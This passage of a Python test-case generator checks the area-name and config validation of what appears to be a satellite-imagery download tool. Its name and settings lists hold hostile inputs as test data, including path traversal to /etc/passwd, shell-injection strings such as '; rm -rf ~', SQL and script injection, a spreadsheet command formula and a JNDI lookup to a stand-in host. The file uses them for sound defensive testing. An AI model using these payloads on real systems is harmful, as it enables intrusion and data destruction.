        wkt, label = _wkt(drawn), drawn.label
        shapes = {"P": _shape(drawn)} if drawn.says is None else {}
        forms = {"config": _in_config(wkt, drawn.crs), "CSV": _in_csv(wkt, drawn.crs)}
        if drawn.exact:
            forms["GeoJSON"] = _in_geojson(collection(feature(_geojson(drawn))))
        for form, files in forms.items():
            yield Case(kind="polygon", label=f"{label}, {form}", files=files, shapes=shapes, says=drawn.says)
    for label, wkt, says in _WKTS:
        shapes = {"P": _SQUARE_SHAPE} if says is None else {}
        yield Case(kind="polygon", label=f"{label}, WKT", files=_in_config(wkt), shapes=shapes, says=says)
    yield Case(
        kind="polygon",
        label="SRID of the CRS, WKT",
        files=_in_config(f"SRID=25833;{_UTM_WKT}", "EPSG:25833"),
        shapes={"P": _SMALL_SHAPE},
    )
    for label, text, wanted in _JSONS:
        says, shapes = (wanted, {}) if isinstance(wanted, str) else (None, wanted)
        yield Case(kind="polygon", label=f"{label}, GeoJSON", files=_in_geojson(text), shapes=shapes, says=says)


# ---- names ------------------------------------------------------------------------------------------------

NAMES: Final = (
    "CON", "con", "nul.txt", "COM1", "LPT9.tif", "COM¹", "aux.", "CONIN$", "PRN ",
    "a.", "a..", "...", ".", "..", "../..", "../../etc/passwd", "..\\..\\windows", "/", "/etc/passwd",
    "\\\\host\\a",
    "C:", "C:\\a", "a/b", "a\\b", "~", "~root", "$HOME", "%TEMP%", "a:b", "a|b", "a?b", "a*b", "<>", '"', "`id`",
    "$(touch owned)", "; rm -rf ~", "-", "--", "-rf", "--help", "-o ProxyCommand=x",
    "a\x00b", "a\nb", "a\rb", "a\tb", "a\x1b[31mb", "a\x07b", "a\x7fb", "a\u0085b", "a\u2028b",
    "\x1b]0;title\x07x",
    "\u202etxt.exe", "a\u200fb", "a\u200bb", "\ufeffa", "a\u00adb", "\u2066a\u2069", "a\ufffeb",
    "x" * 300, "é" * 200, "e\u0301" * 200, "\U0001f3de" * 70, "漢" * 100, "a\u0301\u0302\u0303" * 60, "\u0301",
    "👩‍👩‍👧‍👦", "\uff23\uff1a\uff3c\uff41", "ﬁ", "ẞ", "İ", "ǅ",
    "=1+1", "+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test")', "-1+1", "\uff1d1+1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</script>", "javascript:alert(1)", "&amp;",
    "[bold red]a[/]", "{{7*7}}", "{area}", "%s%n", "${jndi:ldap://evil.test}",
    "'; DROP TABLE jobs; --", "' OR '1'='1", "a%", "_", "NULL", "None", "nan", "true", "0", "1e9", "007",
    "state.sqlite", "overview.csv", "overview.CSV", "a.part", ".moving-0123456789abcdef", "a.lock", "index.html",
    "a,b", 'a"b', "a'b", "a;b", "a #b", "a  b", "\u00a0a", "a\u3000b", "Müggelsee", "上野公園", "حديقة", "नमस्ते",
)  # fmt: skip
"""Each is the name of an area; none may do more than that."""
TWINS: Final = (
    ("Park", "park"), ("PARK", "Park"), ("\u00e9", "e\u0301"), ("Stra\u00dfe", "STRASSE"), ("a b", "a_b"),
    ("\u212b", "\u00c5"), ("ﬁ", "fi"), ("a/b", "a_b-c14cddc033"), ("K", "\u212a"), ("CON", "_CON"), ("a.", "a"),
    ("\u0130", "i\u0307"),
)  # fmt: skip
"""Two names that some system takes for one, or that become one folder where nobody looks."""
_BAD_NAMES: Final[tuple[tuple[object, str], ...]] = (
    ("", "name is empty"), (" ", "name is empty"), ("\n\t", "name is empty"), (None, "name is empty"),
    (True, "the name is true"), ([], "the name is"), ({"a": 1}, "the name is a table"), (1.5, "the name is 1.5"),
    ("\ud800", "half a character"), ("a\udfffb", "half a character"),
)  # fmt: skip


def places(names: Sequence[object]) -> list[tuple[object, Polygon]]:
    """Names, each with a place of its own."""
    return [(name, Polygon(_square(13 + number / 100, 52, 0.005))) for number, name in enumerate(names)]


def _named(names: Sequence[object]) -> str:
    return collection(
        *(feature({"type": "Polygon", "coordinates": [list(shape.exterior.coords)]}, name)
          for name, shape in places(names))
    )  # fmt: skip


def names() -> Iterator[Case]:
    """Names of areas, alone and in pairs, and what is no name."""
    for name in NAMES:
        shapes = {str(label).strip(): shape for label, shape in places([name])}
        yield Case(kind="name", label=ascii(name)[:60], files=_in_geojson(_named([name])), shapes=shapes)
    for pair in TWINS:
        shapes = {str(label): shape for label, shape in places(pair)}
        yield Case(kind="name", label=f"twins {pair!a}", files=_in_geojson(_named(pair)), shapes=shapes)
    for bad, says in _BAD_NAMES:
        yield Case(kind="name", label=f"no name: {bad!a}", files=_in_geojson(_named([bad])), says=says)
    for pair in (("P", "P"), ("P", " P ")):
        yield Case(
            kind="name", label=f"twice {pair}", files=_in_geojson(_named(pair)), says="another area of this"
        )
    yield Case(kind="name", label="a number", files=_in_geojson(_named([7])), shapes={"7": places([7])[0][1]})
    yield Case(
        kind="name", label="a whole float", files=_in_geojson(_named([3.0])), shapes={"3": places([3])[0][1]}
    )


# ---- configs ----------------------------------------------------------------------------------------------

_AREA: Final = f'[[areas]]\nname = "P"\nwkt = "{P}"\n'


def _section(name: str, line: str) -> str:
    return f"[{name}]\n{line}\n{_AREA}"


_SETTINGS: Final[list[tuple[str, str, object]]] = [
    # section, line, what the refusal says, or the value that is right as (key, value)
    ("search", "datetime = '2022-02-29'", "is not a date"),
    ("search", "datetime = '2022-13-01'", "is not a date"),
    ("search", "datetime = '2022'", "is not a date"),
    ("search", "datetime = '01.02.2022'", "is not a date"),
    ("search", "datetime = ''", "is not a date"),
    ("search", "datetime = '/'", "is not a date|both ends"),
    ("search", "datetime = '..'", "both ends|is not a date"),
    ("search", "datetime = '../..'", "open at both ends"),
    ("search", "datetime = '2022-01-02/2022-01-01'", "ends before it starts"),
    ("search", "datetime = '2022-01-01/2022-02-01/2022-03-01'", "more than two ends"),
    ("search", "datetime = '0000-01-01'", "is not a date"),
    ("search", "datetime = '9999-12-31'", "is not a date"),
    ("search", "datetime = '2022-01-01T25:00Z'", "is not a date"),
    ("search", "datetime = '2022-01-01T10:00+99:00'", "is not a date"),
    ("search", "datetime = '\u0662\u0660\u0662\u0662-\u0660\u0661-\u0660\u0661'", "is not a date"),
    ("search", "datetime = '2022-01-01; DROP TABLE jobs'", "is not a date"),
    ("search", "datetime = 2022-01-01", "text in quotes"),
    ("search", "datetime = ['2022-01-01', '2022-02-01']", "text in quotes"),
    ("search", "datetime = '2022-02-28'", ("search.datetime", "2022-02-28")),
    ("search", "datetime = '2020-02-29/..'", ("search.datetime", "2020-02-29/..")),
    ("search", "datetime = '../2020-02-29T10:00:00.5+02:00'",
     ("search.datetime", "../2020-02-29T10:00:00.5+02:00")),
    ("search", "max_scene_cloud = -0.1", "from 0 to 100"),
    ("search", "max_scene_cloud = 100.01", "from 0 to 100"),
    ("search", "max_scene_cloud = nan", "finite"),
    ("search", "max_scene_cloud = -inf", "finite"),
    ("search", "max_scene_cloud = 1e9", "from 0 to 100"),
    ("search", "max_scene_cloud = true", "must be a number, not true"),
    ("search", "max_scene_cloud = '20 %'", "must be a number"),
    ("search", "max_scene_cloud = 1.005", "more than two decimals"),
    ("search", "max_scene_cloud = 0", ("search.max_scene_cloud", 0.0)),
    ("search", "reprocessed = 'NEWEST'", "'newest' or 'all'"),
    ("search", "catalog = 'Earth-Search'", 'did you mean "earth-search"'),
    ("search", "catalog = ''", "is not a known catalogue"),
    ("search", "catalog = []", "text in quotes"),
    ("search", "catalog = {}", "is missing"),
    ("search", "catalog = 'https://stac.example.org/v1'", "is not a known catalogue"),
    ("search", "catalog = { url = 'stac.example.org', collection = 'a' }", "not an http"),
    ("search", "catalog = { url = 'file:///etc/passwd', collection = 'a' }", "not an http"),
    ("search", "catalog = { url = 'http://stac.example.org', collection = 'a' }", "is not https"),
    ("search", "catalog = { url = 'https://h/v1?a=b', collection = 'a' }", "query or fragment"),
    ("search", "catalog = { url = 'https://h/v1#a', collection = 'a' }", "query or fragment"),
    ("search", "catalog = { url = 'https://h\\u0000', collection = 'a' }".replace("'", '"'), "not an http"),
    ("search", "catalog = { url = 'https://h/v1', collection = '' }", "is empty"),
    ("search", "catalog = { url = 'https://h/v1', collection = 'a', assets = { visual = 'v' } }", "add scl"),
    ("search", "catalog = { url = 'https://h/v1', collection = 'a', assets = { 'a/b' = 'v' } }", "file name"),
    ("clouds", "classes = [-1]", "is not an SCL class"),
    ("clouds", "classes = [0]", "class 0 is nodata"),
    ("clouds", "classes = [12]", "is not an SCL class"),
    ("clouds", "classes = [3, 3]", "listed twice"),
    ("clouds", "classes = [3.0]", "whole number"),
    ("clouds", "classes = [true]", "whole number, not true"),
    ("clouds", "classes = '3, 8'", "must be a list"),
    ("clouds", "classes = { a = 3 }", "must be a list"),
    ("clouds", "classes = []", ("clouds.classes", ())),
    ("clouds", "max_area_cloud = -1e-9", "from 0 to 100|more than two decimals"),
    ("clouds", "min_area_valid = 101", "from 0 to 100"),
    ("clouds", "max_cloud = 2", 'did you mean "max_area_cloud"'),
    ("output", "folder = ' '", "is not a path"),
    ("output", "folder = 3", "path in quotes"),
    ("output", 'folder = "a\\nb"', "is not a path"),
    ("output", "folder = '~nobodyatall/x'", "path"),
    ("output", "assets = 'visual'", "must be a list"),
    ("output", "assets = ['visual', 'VISUAL']", "listed twice"),
    ("output", "assets = ['']", "file name"),
    ("output", "assets = ['..']", "file name"),
    ("output", "assets = ['a b']", "file name"),
    ("output", "assets = ['é']", "file name"),
    ("output", "assets = [['visual']]", "text in quotes"),
    ("output", "mask = 1", "true or false"),
    ("output", "mask = 'true'", "true or false"),
    ("network", "connections = 0", "from 1 to 4096"),
    ("network", "connections = -5", "from 1 to 4096"),
    ("network", "connections = 4097", "from 1 to 4096"),
    ("network", "connections = 1_000_000_000", "from 1 to 4096"),
    ("network", "connections = 99999999999999999999999999", "whole number|from 1 to 4096"),
    ("network", "connections = 1e9", "whole number"),
    ("network", "connections = true", "whole number, not true"),
    ("network", "connections = '64'", "whole number"),
    ("network", "connections = 0x10", ("network.connections", 16)),
    ("network", "connect_timeout = 0", "more than 0"),
    ("network", "total_timeout = inf", "finite"),
    ("network", "idle_timeout = '30 s'", "must be a number"),
    ("network", "patience = nan", "finite"),
    ("network", "attempts = 21", "from 1 to 20"),
    ("network", "origins = 'https://a.test'", "must be a list"),
    ("network", "origins = ['*']", "write scheme"),
    ("network", "origins = ['http://']", "write scheme"),
    ("network", "origins = ['https://a.test/path']", "drop the path"),
    ("network", "origins = ['https://a.test:0x50']", "write scheme"),
    ("network", "origins = ['https://*.a.test']", "write scheme"),
    ("network", "origins = ['javascript:alert(1)']", "write scheme"),
    ("network", "origins = ['https://a.test\\r\\nX: 1']".replace("'", '"'), "write scheme"),
    ("network", "origins = ['HTTPS://A.test:443/']", ("network.origins", ("https://a.test",))),
    ("run", "memory = '64'", "is not a size"),
    ("run", "memory = '64 mb'", "is not a size"),
    ("run", "memory = '-64 MiB'", "is not a size"),
    ("run", "memory = '1e3 MiB'", "is not a size"),
    ("run", "memory = '64 MiB and more'", "is not a size"),
    ("run", "memory = '9999999999 GiB'", "from 0 to 1 PiB"),
    ("run", "memory = 1.5", "is not a size"),
    ("run", "memory = nan", "is not a size"),
    ("run", "memory = true", "is not a size"),
    ("run", "memory = 1", "too few"),
    ("run", "memory = '64 MiB'", ("run.memory", 64 << 20)),
    ("run", "memory = '64.5MB'", ("run.memory", 64_500_000)),
    ("run", "memory = 0x4000000", ("run.memory", 64 << 20)),
    ("run", "reserve = '0.3 B'", "whole number of bytes"),
    ("run", "queue = 0", "from 1 to"),
    ("run", "queue = 1000001", "from 1 to"),
    ("run", "state = 'data'", "is the output folder itself"),
    ("run", "state = ''", "is not a path"),
    ("run", "verify = 'yes'", "true or false"),
    ("run", "workers = 1000000000", "is not known"),
    ("run", "connections = 3", r"belongs to \[network\]"),
    ("run", "Queue = 3", 'did you mean "queue"'),
    ("run", '"queue " = 3', 'did you mean "queue"'),
    ("run", "[run.queue]\na = 1", "whole number"),
    ("unknown", "a = 1", "is not known"),
    ("Run", "queue = 3", 'did you mean "run"'),
    # what might hold a password is not repeated
    ("search", f"catalog = 'https://me:{_CANARY}@stac.test/v1'", "is not a known catalogue"),
    ("search", f"catalog = {{ url = 'https://me:{_CANARY}@h', collection = 'a' }}", "user name or password"),
    ("search", f"catalog = {{ url = 'https://h?token={_CANARY}', collection = 'a' }}", "query or fragment"),
    ("search", f"catalog = [ 'https://h/v1?sig={_CANARY}' ]", "text in quotes"),
    ("network", f"origins = 'https://me:{_CANARY}@a.test'", "must be a list"),
    ("network", f"origins = ['https://me:{_CANARY}@a.test']", "user name or password"),
    ("network", f"origins = ['https://a.test?sig={_CANARY}']", "query or fragment"),
    ("network", f"origins = [['https://a.test?sig={_CANARY}']]", "text in quotes"),
    ("output", f"assets = ['https://a.test/b.tif?sig={_CANARY}']", "file name"),
    ("run", f"memory = 'https://a.test/?sig={_CANARY}'", "is not a size"),
    ("search", f"datetime = 'https://a.test/?sig={_CANARY}'", "is not a date|more than two ends"),
]  # fmt: skip

_FILES: Final[list[tuple[str, str | bytes, str | None]]] = [
    # label, the whole config, what the refusal says (None: right, the square)
    ("empty file", "", "areas: is missing"),
    ("blanks only", " \n\t\n", "areas: is missing"),
    ("comment only", "# nothing\n", "areas: is missing"),
    ("byte order mark", b"\xef\xbb\xbf" + _AREA.encode(), None),
    ("Windows lines", _AREA.replace("\n", "\r\n"), None),
    ("Macintosh lines", _AREA.replace("\n", "\r"), "not TOML"),
    ("byte order mark in the middle", "a = 1\n\ufeff" + _AREA, "not TOML"),
    ("UTF-16", _AREA.encode("utf-16"), "not UTF-8"),
    ("UTF-32", _AREA.encode("utf-32"), "not UTF-8"),
    ("Latin-1", _AREA.replace('"P"', '"Müggelsee"').encode("latin-1"), "not UTF-8"),
    ("half a character at the end", _AREA.encode() + b"# \xc3", "not UTF-8"),
    ("overlong slash", _AREA.encode() + b"# \xc0\xaf", "not UTF-8"),
    ("zeros", b"\0" * 100, "not TOML"),
    ("NUL in a text", _AREA.replace("P", "P\0"), "not TOML"),
    ("escape sequence in a text", _AREA.replace('"P"', '"P\x1b[31m"'), "not TOML"),
    ("YAML", "areas:\n  - name: P\n", "not TOML"),
    ("JSON", '{"areas": []}', "not TOML"),
    ("INI", "[areas]\nname: P\n", "not TOML"),
    ("no quotes", "areas = a.csv\n", "not TOML"),
    ("one quote", 'areas = "a.csv\n', "not TOML"),
    ("key twice", 'crs = "EPSG:4326"\ncrs = "EPSG:4326"\n' + _AREA, "written twice"),
    ("table twice", f"[run]\nqueue = 1\n[run]\nqueue = 2\n{_AREA}", "written twice"),
    ("table and key", f"run = 3\n[run]\nqueue = 2\n{_AREA}", "not TOML"),
    ("dotted key and table", f"run.queue = 3\n[run]\nqueue = 2\n{_AREA}", "not TOML"),
    ("area with a key twice", _AREA + 'name = "Q"\n', "written twice"),
    ("nested ten thousand deep", f"areas = {'[' * 10_000}", "nested too deeply|not TOML"),
    ("a number of 5000 digits", f"name_field = {'1' * 5000}\n{_AREA}", "not TOML|text in quotes"),
    ("a key of a million letters", f"{'a' * 1_000_000} = 1\n{_AREA}", "is not known"),
    ("no key", f"= 1\n{_AREA}", "not TOML"),
    ("a bare word", f"areas\n{_AREA}", "not TOML"),
    ("single brackets", _AREA.replace("[[areas]]", "[areas]"), "double brackets"),
    ("areas in other case", _AREA.replace("areas", "Areas"), 'did you mean "areas"'),
    ("area without a name", _AREA.replace('name = "P"\n', ""), "name: is missing"),
    ("area without a polygon", '[[areas]]\nname = "P"\n', "wkt: is missing"),
    ("area with geometry for wkt", _AREA.replace("wkt", "geometry"), "geometry: is not known"),
    ("no areas", "areas = []\n", "there is no area"),
    ("areas = true", "areas = true\n", "path in quotes"),
    ("areas = nan", "areas = nan\n", "path in quotes"),
    ("areas is a list of files", 'areas = ["a.csv", "b.csv"]\n', "must be a table"),
    ("name_field = true", f"name_field = true\n{_AREA}", "text in quotes"),
    ("name_field empty", f'name_field = ""\n{_AREA}', "is empty"),
    ("crs = 25833", f"crs = 25833\n{_AREA}", "text in quotes"),
    ("search = 3", f"search = 3\n{_AREA}", "must be a table"),
    ("search is a list", f"[[search]]\na = 1\n{_AREA}", "must be a table"),
    ("missing file", 'areas = "none.geojson"\n', "no such file"),
    ("missing folder", 'areas = "none/a.geojson"\n', "no such file"),
    ("folder for a file", 'areas = "folder"\n', "no such file"),
    ("file of no name", 'areas = ""\n', "is not a path"),
    ("file with a line break", 'areas = "a\\nb.csv"\n', "is not a path"),
    ("file of a thousand letters", f'areas = "{"a" * 1000}.csv"\n', "no such file|path"),
    ("device for a file", 'areas = "/dev/null"\n', "no such file"),
    ("file of another kind", 'areas = "a.pdf"\n', "in no format|needs an extra"),
    ("text that is no table", 'areas = "a.txt"\n', "separate the columns by commas, semicolons or tabs"),
    ("address for a file", f'areas = "https://me:{_CANARY}@a.test/b.geojson?sig={_CANARY}"\n', "no such file"),
]


def configs() -> Iterator[Case]:
    """Settings and whole files."""
    for section, line, wanted in _SETTINGS:
        label = f"[{section}] {line}"
        files: dict[str, str | bytes] = {"config.toml": _section(section, line)}
        if isinstance(wanted, tuple):
            key, value = wanted
            yield Case(kind="config", label=label, files=files, values={key: value})
        else:
            yield Case(kind="config", label=label, files=files, says=str(wanted))
    for label, text, says in _FILES:
        shapes = {"P": _SQUARE_SHAPE} if says is None else {}
        files = {"config.toml": text, "folder/": "", "a.pdf": "no areas", "a.txt": "no areas"}
        yield Case(kind="config", label=label, files=files, shapes=shapes, says=says)
    yield Case(kind="config", label="no config at all", files={}, says="no such file")
    yield Case(kind="config", label="a folder for a config", files={"config.toml/": ""}, says="cannot be read")


def cases() -> Iterator[Case]:
    """All of them."""
    yield from polygons()
    yield from names()
    yield from configs()
